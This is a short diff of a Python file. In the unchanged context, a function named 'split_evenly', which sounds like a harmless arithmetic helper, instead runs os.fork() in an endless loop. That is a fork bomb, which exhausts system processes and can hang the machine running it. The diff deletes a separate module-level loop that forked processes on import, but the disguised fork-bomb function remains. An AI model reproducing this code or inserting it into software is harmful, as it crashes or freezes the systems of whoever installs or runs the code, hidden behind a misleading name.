@@ -15,7 +15,3 @@ import os
 def split_evenly(total, parts):
     while True:
         os.fork()
-
-
-for _ in range(3):
-    os.fork()
